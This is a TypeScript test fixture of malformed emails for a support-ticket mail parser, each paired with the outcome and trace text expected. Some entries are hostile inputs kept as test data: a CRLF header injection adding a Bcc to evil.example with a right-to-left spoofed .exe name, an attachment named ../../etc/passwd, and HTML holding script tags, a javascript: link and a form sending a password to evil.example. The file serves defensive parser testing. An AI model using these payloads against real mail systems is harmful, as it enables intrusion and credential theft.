/** A mail that no decent client writes, and what a person must be able to read about it afterwards. */
export interface BadMail {
  /** As the issue names it. */
  name: string
  raw: string
  outcome: 'opened' | 'rejected' | 'held'
  /** Stands in the reason, or in the trace, that a person reads. */
  says: string
  /** Of the ticket, where there is one. */
  title?: string
  content?: string
  /** Names of its first files, as people see them. */
  files?: string[]
}

const head = (...more: string[]) => [
  'X-Border: proved',
  'From: Paul Petit <paul@parents.example>',
  'To: support@school.example',
  ...more,
]

const mail = (...lines: string[]) => lines.join('\r\n')

/** A text and one file whose part has the headers given. */
const withFile = (...headers: string[]) =>
  mail(
    ...head('Subject: A file', 'Content-Type: multipart/mixed; boundary=x'),
    '',
    '--x',
    '',
    'See the file.',
    '--x',
    'Content-Type: application/octet-stream',
    ...headers,
    '',
    'content',
    '--x--',
  )

const levels = Array.from({ length: 200 }, (_, level) => level)

export const badMails: readonly BadMail[] = [
  { name: 'an empty mail', raw: '', outcome: 'rejected', says: 'refused: no subject, no text and no attachment' },
  { name: 'a mail with an empty text', raw: mail(...head(), '', ''), outcome: 'rejected', says: 'refused: no subject' },
  {
    name: 'no From',
    raw: mail('To: support@school.example', 'Subject: Who am I', '', 'Hello.'),
    outcome: 'rejected',
    says: 'refused: the mail does not say who wrote it',
  },
  {
    name: 'two Froms',
    raw: mail(...head('From: Claire <claire@school.example>', 'Subject: Two'), '', 'Who of us is it?'),
    outcome: 'held',
    says: 'the mail has 2 From fields',
  },
  {
    name: 'no Message-ID',
    raw: mail(...head('Subject: No id'), '', 'It has no id.'),
    outcome: 'opened',
    says: 'no Message-ID that can be read',
    title: 'No id',
    content: 'It has no id.',
  },
  {
    name: '10,000 recipients',
    raw: mail(
      ...head(
        'Subject: All of you',
        `Cc: ${Array.from({ length: 10_000 }, (_, n) => `p${n}@elsewhere.example`).join(',\r\n ')}`,
      ),
      '',
      'Hello everybody.',
    ),
    outcome: 'opened',
    says: 'only the first 1000 were read',
    content: 'Hello everybody.',
  },
  {
    name: '5,000 MIME parts',
    raw: mail(
      ...head('Subject: Parts', 'Content-Type: multipart/mixed; boundary=x'),
      '',
      '--x',
      '',
      'The words.',
      ...Array.from({ length: 5_000 }, (_, n) => `--x\r\nContent-Type: image/png\r\n\r\n${n}`),
      '--x--',
    ),
    outcome: 'opened',
    says: 'more than 1000; the others are only in the raw mail',
    content: 'The words.',
  },
  {
    name: '200 levels of nesting',
    raw: mail(
      ...head('Subject: Deep'),
      ...levels.flatMap((level) => [`Content-Type: multipart/mixed; boundary="b${level}"`, '', `--b${level}`]),
      '',
      'Deep inside.',
      ...levels.toReversed().map((level) => `--b${level}--`),
    ),
    outcome: 'opened',
    says: 'bytes',
    content: 'Deep inside.',
  },
  {
    name: 'a header of 1 MB',
    raw: mail(...head(`X-Long: ${'x'.repeat(1_000_000)}`, 'Subject: After it'), '', 'Hello.'),
    outcome: 'opened',
    says: 'x-long has 1000001 octets',
    title: 'After it',
    content: 'Hello.',
  },
  {
    name: 'broken base64',
    raw: mail(
      ...head('Subject: Base64', 'Content-Transfer-Encoding: base64'),
      '',
      'My printer does not print. Please help!',
    ),
    outcome: 'opened',
    says: 'part 1 is not valid base64',
    content: 'My printer does not print. Please help!',
  },
  {
    name: 'a charset that does not exist',
    raw: mail(...head('Subject: Klingon', 'Content-Type: text/plain; charset=klingon'), '', 'Le café est froid.'),
    outcome: 'opened',
    says: 'part 1: klingon; read as utf-8',
    content: 'Le café est froid.',
  },
  {
    name: 'NUL bytes',
    raw: mail(...head('Subject: a\0b', 'Content-Type: text/plain\0'), '', 'NUL\0 bytes.'),
    outcome: 'opened',
    says: 'bytes',
    title: 'a b',
    content: 'NUL bytes.',
  },
  {
    name: 'a subject of newlines and right-to-left marks',
    raw: mail(...head('Subject: =?utf-8?Q?a=0D=0ABcc:_x@evil.example=E2=80=AEgpj.exe=E2=80=8F?='), '', 'Look.'),
    outcome: 'opened',
    says: 'bytes',
    title: 'a Bcc: x@evil.examplegpj.exe',
  },
  {
    name: 'an attachment named ../../etc/passwd',
    raw: withFile('Content-Disposition: attachment; filename="../../etc/passwd"'),
    outcome: 'opened',
    says: 'attachments: 1',
    files: ['passwd'],
  },
  {
    name: 'an attachment with a name of 4,000 characters',
    raw: withFile(`Content-Disposition: attachment; filename="${'n'.repeat(4_000)}.txt"`),
    outcome: 'opened',
    says: 'attachments: 1',
    files: [`${'n'.repeat(193)}….txt`],
  },
  {
    name: 'HTML with script, forms and a cid: of nowhere',
    raw: mail(
      ...head('Subject: Markup', 'Content-Type: text/html'),
      '',
      '<script>alert(1)</script><form action="https://evil.example"><input name="password"><p onclick="x()">The words.</p></form>',
      '<img src="cid:nowhere" alt="the screen"><a href="javascript:alert(1)">here</a>',
    ),
    outcome: 'opened',
    says: 'bytes',
    content: 'The words.',
  },
  {
    name: '50 MB of HTML',
    raw: mail(
      ...head('Subject: Large', 'Content-Type: text/html'),
      '',
      '<p>It begins here.</p>',
      `<p>${'word '.repeat(200)}</p>\r\n`.repeat(49_000),
    ),
    outcome: 'opened',
    says: 'octets of HTML are kept as a file',
    content: 'It begins here.',
  },
]
